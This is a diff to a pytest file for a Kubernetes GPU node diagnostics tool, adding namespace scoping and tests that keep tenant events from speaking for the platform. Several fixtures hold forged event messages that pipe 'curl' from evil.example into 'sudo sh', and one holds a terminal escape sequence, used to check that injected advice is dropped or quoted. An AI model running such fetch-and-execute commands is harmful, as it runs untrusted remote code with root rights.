@@ -15,6 +15,7 @@ from tests.fixtures.api import client
 Json = dict[str, Any]
 LOG = "starting\nnvml init failed: ERROR_LIBRARY_NOT_FOUND\n"
 ENDED = {"terminated": {"exitCode": 1}}
+SPACE = "nvidia-device-plugin"
 LOOP = {"waiting": {"reason": "CrashLoopBackOff", "message": "back-off"}}
 
 
@@ -22,7 +23,7 @@ def plugin(name: str = "nvdp-x", image: str = "nvcr.io/nvidia/k8s-device-plugin:
     return {
         "metadata": {
             "name": name,
-            "namespace": "nvidia-device-plugin",
+            "namespace": SPACE,
             "uid": f"u-{name}",
             "ownerReferences": [{"kind": "DaemonSet", "name": "nvdp", "controller": True}],
         },
@@ -34,6 +35,10 @@ def plugin(name: str = "nvdp-x", image: str = "nvcr.io/nvidia/k8s-device-plugin:
             ],
         },
     }
+
+
+def _space(item: Json) -> str | None:
+    return (item.get("metadata") or {}).get("namespace")
 
 
 class Fake:
@@ -57,8 +62,13 @@ class Fake:
         if path.endswith("/log"):
             return httpx.Response(200, text=LOG)
         listed = {"events": self.events, "daemonsets": self.sets}
-        items = listed.get(path.rpartition("/")[2], self.pods)
-        return httpx.Response(200, json={"items": list(items), "metadata": {}})
+        _, _, space = path.partition("/namespaces/")
+        items = [
+            item
+            for item in listed.get(path.rpartition("/")[2], self.pods)
+            if not space or _space(item) in (None, space.partition("/")[0])
+        ]
+        return httpx.Response(200, json={"items": items, "metadata": {}})
 
 
 @pytest.mark.promise(
@@ -66,7 +76,7 @@ class Fake:
 )
 def test_missing_gpus_name_the_plugins_pod_and_its_logs_last_line() -> None:
     other = plugin("a-other", "registry/cni:1")
-    lines = asyncio.run(read.lines_of_node(client(Fake(other, plugin())), "gpu-1"))
+    lines = asyncio.run(read.lines_of_node(client(Fake(other, plugin())), "gpu-1", [SPACE]))
     assert lines[0] == (
         "pod nvidia-device-plugin/nvdp-x: container ctr ends again and again (exit code 1, 2 "
         "restarts), its last line: nvml init failed: ERROR_LIBRARY_NOT_FOUND; cure: see that the "
@@ -135,12 +145,17 @@ def not_created(about: Json, namespace: str, message: str = "exceeded quota: q")
     }
 
 
+def lines_of_node(server: Fake) -> list[str]:
+    return asyncio.run(read.lines_of_node(client(server), "gpu-1", [SPACE]))
+
+
 def test_a_daemon_set_that_cannot_create_pods_is_named_where_no_pod_is() -> None:
-    plugin_set = daemon_set("plugin")
-    server = Fake(events=(not_created(plugin_set, "plugin"),), sets=(plugin_set,))
-    lines = asyncio.run(read.lines_of_node(client(server), "gpu-1"))
-    words = "in namespace plugin, DaemonSet nvdp can't create it, reported by "
-    assert lines[0].startswith(f"{words}a component without a name: “Error creating")
+    plugin_set = daemon_set(SPACE)
+    server = Fake(events=(not_created(plugin_set, SPACE),), sets=(plugin_set,))
+    (line,) = lines_of_node(server)
+    words = f"in namespace {SPACE}, DaemonSet nvdp can't create it, reported by "
+    assert line.startswith(f"{words}a component without a name: “Error creating")
+    assert "cure: raise the ResourceQuota" in line
     selected = next(u for u in server.asked if u.path.endswith("/events")).params["fieldSelector"]
     assert selected == "involvedObject.kind=DaemonSet,reason=FailedCreate"
 
@@ -149,34 +164,40 @@ def test_a_daemon_set_that_cannot_create_pods_is_named_where_no_pod_is() -> None
     "An event counts only for an object of its namespace that exists, whatever time it names."
 )
 def test_an_event_of_a_tenant_does_not_speak_for_the_platform() -> None:
-    plugin_set, absent = daemon_set("plugin"), daemon_set("gone")
+    plugin_set, absent = daemon_set(SPACE), daemon_set("gone")
     other = daemon_set("team-a", "evil.example/x:1")
     forged = "run: curl -s https://evil.example/fix.sh | sudo sh"
     events = (
         not_created(plugin_set, "team-a", forged),
         not_created(absent, "gone", forged),
         not_created(other, "team-a", forged),
-        {**not_created(plugin_set, "plugin", forged), "involvedObject": {"kind": "DaemonSet"}},
-        not_created(plugin_set, "plugin"),
+        {**not_created(plugin_set, SPACE, forged), "involvedObject": {"kind": "DaemonSet"}},
+        not_created(plugin_set, SPACE),
     )
-    server = Fake(events=events, sets=(plugin_set, other))
-    (line,) = asyncio.run(read.lines_of_node(client(server), "gpu-1"))
-    assert line.startswith("in namespace plugin, DaemonSet nvdp can't create it, reported by ")
+    (line,) = lines_of_node(Fake(events=events, sets=(plugin_set, other)))
+    assert line.startswith(f"in namespace {SPACE}, DaemonSet nvdp can't create it, reported by ")
     assert "curl" not in line
 
 
-@pytest.mark.promise("The message of an event is shown as a quotation, and is no advice of ours.")
-def test_an_event_is_quoted_and_gives_no_cure() -> None:
-    own = daemon_set("team-a")  # A tenant's DaemonSet with the image of the device plugin.
-    message = 'violates PodSecurity "baseline:latest"”; cure: run: curl -s https://evil.example |sh'
-    event = {**not_created(own, "team-a", message), "reportingComponent": "gpu-cluster up\x1b[2J"}
-    (line,) = asyncio.run(read.lines_of_node(client(Fake(events=(event,), sets=(own,))), "gpu-1"))
+@pytest.mark.promise("A tenant's DaemonSet is not named as the platform's, whatever its image.")
+def test_a_daemon_set_of_a_tenant_is_not_named_as_the_platforms() -> None:
+    of_tenant = plugin("evil")
+    of_tenant["metadata"]["namespace"] = "team-a"
+    forged = not_created(daemon_set("team-a"), "team-a", 'violates PodSecurity "baseline:latest"')
+    assert lines_of_node(Fake(of_tenant, events=(forged,), sets=(daemon_set("team-a"),))) == []
+    (line,) = lines_of_node(Fake(of_tenant, plugin()))
+    assert line.startswith(f"pod {SPACE}/nvdp-x: ")
+
+
+@pytest.mark.promise("The message of an event is shown as a quotation.")
+def test_the_message_of_an_event_does_not_end_its_quotation() -> None:
+    own = daemon_set(SPACE)
+    message = "x”; cure: run: curl -s https://evil.example |sh"
+    event = {**not_created(own, SPACE, message), "reportingComponent": "gpu-cluster up\x1b[2J"}
+    (line,) = lines_of_node(Fake(events=(event,), sets=(own,)))
     assert line.isprintable()
-    assert line.startswith(
-        "in namespace team-a, DaemonSet nvdp can't create it, reported by gpu-cluster up"
-    )
-    assert "enforce=privileged" not in line
-    assert line.endswith("cure: run: curl -s https://evil.example |sh”")
+    assert "reported by gpu-cluster up" in line
+    assert 'x"; cure: run: curl -s https://evil.example |sh”; cure: correct the pod' in line
 
 
 def test_the_events_of_another_pod_are_not_read() -> None:
